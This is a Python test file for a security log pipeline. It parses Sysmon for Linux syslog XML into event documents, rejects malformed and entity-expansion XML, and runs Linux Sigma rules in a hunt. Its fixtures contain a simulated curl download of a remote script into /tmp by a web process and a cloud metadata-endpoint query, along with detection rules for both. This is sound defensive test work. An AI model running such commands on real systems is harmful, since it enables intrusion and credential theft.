"""Windows event XML sent as text: Sysmon for Linux's syslog lines (tag `sysmon`, the `<Event>`
element as the message) become the same documents as the event read from an EVTX file, and
the Linux Sigma rules (process_creation, network_connection) match them in a hunt."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from collectors.files import read_events
from collectors.parsers import event_xml, parse_message, windows_json
from collectors.syslog.header import parse_syslog
from collectors.syslog.normalize import to_ecs
from soc.detection.hunt import compile_hunt_rules, run_hunt
from soc.rules import load_rules

ROOT = Path(__file__).resolve().parents[3]
PIPELINES = ROOT / "rules" / "pipelines"
RECEIVED = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)

SYSTEM = (
    '<System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
    "<EventID>{code}</EventID><Version>5</Version><Level>4</Level><Task>{code}</Task>"
    "<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
    '<TimeCreated SystemTime="2026-11-20T09:41:07.123456789Z"/><EventRecordID>{record}'
    '</EventRecordID><Correlation/><Execution ProcessID="811" ThreadID="811"/>'
    "<Channel>Linux-Sysmon/Operational</Channel><Computer>lnx-web01</Computer>"
    '<Security UserId="0"/></System>'
)


def sysmon_line(code: int, record: int, data: dict[str, str]) -> str:
    items = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in data.items())
    system = SYSTEM.replace("{code}", str(code)).replace("{record}", str(record))
    event = f"<Event>{system}<EventData>{items}</EventData></Event>"
    return f"2026-11-20T09:41:07.124000+00:00 lnx-web01 sysmon: {event}"


PROCESS = {
    "RuleName": "-",
    "UtcTime": "2026-11-20 09:41:07.100",
    "ProcessGuid": "{5f1e0a11-0000-0000-0000-000000000001}",
    "ProcessId": "4242",
    "Image": "/usr/bin/curl",
    "CommandLine": "curl -s http://198.51.100.7/x.sh -o /tmp/x.sh",
    "CurrentDirectory": "/srv/app",
    "User": "www-data",
    "Hashes": "SHA256=" + "ab" * 32,
    "ParentProcessGuid": "{5f1e0a11-0000-0000-0000-000000000002}",
    "ParentProcessId": "4200",
    "ParentImage": "/usr/bin/python3.12",
    "ParentCommandLine": "python3 manage.py runserver",
    "ParentUser": "www-data",
}
CONNECTION = {
    "RuleName": "-",
    "UtcTime": "2026-11-20 09:41:08.000",
    "ProcessGuid": "{5f1e0a11-0000-0000-0000-000000000002}",
    "ProcessId": "4200",
    "Image": "/usr/bin/python3.12",
    "User": "www-data",
    "Protocol": "tcp",
    "Initiated": "true",
    "SourceIsIpv6": "false",
    "SourceIp": "10.20.0.15",
    "SourcePort": "51234",
    "DestinationIsIpv6": "false",
    "DestinationIp": "169.254.169.254",
    "DestinationPort": "80",
}


def from_syslog(line: str) -> dict:
    return to_ecs(parse_syslog(line.encode(), received=RECEIVED), peer_ip=None)


def test_sysmon_for_linux_process_creation_from_syslog() -> None:
    doc = from_syslog(sysmon_line(1, 7001, PROCESS))
    assert doc["winlog"]["channel"] == "Linux-Sysmon/Operational"
    assert doc["winlog"]["provider_name"] == "Linux-Sysmon"
    assert doc["winlog"]["event_id"] == doc["event"]["code"] == "1"
    assert doc["winlog"]["record_id"] == 7001
    assert doc["winlog"]["event_data"] == PROCESS  # text, exactly as written
    assert doc["event"]["dataset"] == "windows.linux_sysmon_operational"
    assert doc["@timestamp"] == "2026-11-20T09:41:07.123Z"  # SystemTime, nanoseconds cut
    assert doc["host"]["name"] == "lnx-web01"
    process = doc["process"]
    assert process["executable"] == "/usr/bin/curl"
    assert process["name"] == "curl"
    assert process["pid"] == 4242
    assert process["command_line"] == PROCESS["CommandLine"]
    assert process["parent"]["executable"] == "/usr/bin/python3.12"
    assert process["parent"]["pid"] == 4200
    assert doc["log"]["syslog"]["appname"] == "sysmon"


def test_sysmon_for_linux_network_connection_from_syslog() -> None:
    doc = from_syslog(sysmon_line(3, 7002, CONNECTION))
    assert doc["event"]["code"] == "3"
    assert doc["winlog"]["event_data"]["Initiated"] == "true"
    assert doc["destination"] == {"ip": "169.254.169.254", "port": 80}
    assert doc["source"]["ip"] == "10.20.0.15"


def test_xml_text_gives_the_document_of_the_same_event_as_json() -> None:
    """A Windows event (namespace, Qualifiers, correlation, unnamed Data items) as XML text and
    as the `evtx` package renders it: one document."""
    xml = (
        '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
        '<Provider Name="Service Control Manager" Guid="{555908d1-a6d7-4695-8e1e-26931d2012f4}"'
        ' EventSourceName="Service Control Manager"/><EventID Qualifiers="16384">7045</EventID>'
        "<Version>0</Version><Level>4</Level><Task>0</Task><Opcode>0</Opcode>"
        "<Keywords>0x8080000000000000</Keywords>"
        '<TimeCreated SystemTime="2026-11-20T09:00:00.5000000Z"/><EventRecordID>512'
        '</EventRecordID><Correlation ActivityID="{0A1B2C3D-0000-0000-0000-000000000000}"/>'
        '<Execution ProcessID="700" ThreadID="7712"/><Channel>System</Channel>'
        '<Computer>KT-SRV02</Computer><Security UserID="S-1-5-18"/></System>'
        "<EventData><Data>svc-update</Data><Data>C:\\ProgramData\\u.exe</Data><Data></Data>"
        "</EventData></Event>"
    )
    record = {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {
                    "#attributes": {
                        "Name": "Service Control Manager",
                        "Guid": "{555908d1-a6d7-4695-8e1e-26931d2012f4}",
                        "EventSourceName": "Service Control Manager",
                    }
                },
                "EventID": {"#attributes": {"Qualifiers": 16384}, "#text": 7045},
                "Version": 0,
                "Level": 4,
                "Task": 0,
                "Opcode": 0,
                "Keywords": "0x8080000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": "2026-11-20T09:00:00.5000000Z"}},
                "EventRecordID": 512,
                "Correlation": {
                    "#attributes": {"ActivityID": "{0A1B2C3D-0000-0000-0000-000000000000}"}
                },
                "Execution": {"#attributes": {"ProcessID": 700, "ThreadID": 7712}},
                "Channel": "System",
                "Computer": "KT-SRV02",
                "Security": {"#attributes": {"UserID": "S-1-5-18"}},
            },
            "EventData": {"Data": {"#text": ["svc-update", "C:\\ProgramData\\u.exe", ""]}},
        }
    }
    from_xml = event_xml.parse(xml)
    assert from_xml is not None
    assert from_xml == windows_json.from_object(record)
    assert from_xml["winlog"]["event_data"] == {
        "param1": "svc-update",
        "param2": "C:\\ProgramData\\u.exe",
        "param3": "",
    }


def test_event_xml_is_chosen_by_tag_or_content() -> None:
    line = sysmon_line(1, 1, PROCESS)
    message = line.split("sysmon: ", 1)[1]
    assert parse_message(message, program="sysmon")["event"]["code"] == "1"
    assert parse_message(message, program="rsyslogd-forwarded")["event"]["code"] == "1"
    assert event_xml.parse("<Eventual>not an event</Eventual>") is None
    assert event_xml.parse("sysmon started") is None


def test_malformed_or_entity_xml_stays_a_plain_syslog_line() -> None:
    bomb = (
        '<!DOCTYPE e [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
        "<Event><System><EventID>&b;</EventID></System></Event>"
    )
    deep = "<Event><UserData>" + "<a>" * 5000 + "x" + "</a>" * 5000 + "</UserData></Event>"
    odd_digits = "<Event><System><EventID>\u00b2</EventID><Level>\u00b9</Level></System></Event>"
    assert event_xml.parse(odd_digits)["winlog"]["event_id"] == "\u00b2"
    broken = ("<Event><System><EventID>1</System></Event>", "<Event></Event")
    for message in (bomb, deep, *broken):
        assert event_xml.parse(message) is None
        doc = from_syslog(f"2026-11-20T09:41:07+00:00 lnx-web01 sysmon: {message}")
        assert "winlog" not in doc
        assert doc["message"] == message
        assert doc["process"]["name"] == "sysmon"


LINUX_RULES = {
    "proc.yml": """
title: Download tool started by a Python web application
id: 0e3f8a52-6c1d-4b7e-9a21-5d4c3b2a1f01
status: test
logsource: {category: process_creation, product: linux}
detection:
    selection_parent:
        ParentImage|contains: '/python'
    selection_child:
        Image|endswith: ['/curl', '/wget']
        CommandLine|contains|all: [' -o ', 'http']
    condition: all of selection_*
level: medium
""",
    "net.yml": """
title: Instance metadata queried by an interpreter
id: 0e3f8a52-6c1d-4b7e-9a21-5d4c3b2a1f02
status: test
logsource: {category: network_connection, product: linux}
detection:
    selection:
        Image|contains: '/python'
        Initiated: true
        DestinationIp: 169.254.169.254
    condition: selection
level: low
""",
}


def test_linux_sigma_rules_match_sysmon_for_linux_in_a_hunt(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    for name, text in LINUX_RULES.items():
        (rules / name).write_text(text, encoding="utf-8")
    log = tmp_path / "syslog"
    log.write_text(
        "\n".join(
            [
                sysmon_line(1, 7001, PROCESS),
                sysmon_line(3, 7002, CONNECTION),
                sysmon_line(3, 7003, {**CONNECTION, "DestinationIp": "10.20.0.1"}),
            ]
        )
        + "\n",
        encoding="utf-8",
    )
    compiled = compile_hunt_rules(load_rules([rules]), [PIPELINES])
    assert compiled.catalog.errors == []
    with run_hunt(compiled, read_events([log], format="syslog")) as result:
        matched = sorted((m.rule.id, m.events[0]["winlog"]["record_id"]) for m in result.matches())
    assert matched == [
        ("0e3f8a52-6c1d-4b7e-9a21-5d4c3b2a1f01", 7001),
        ("0e3f8a52-6c1d-4b7e-9a21-5d4c3b2a1f02", 7002),
    ]
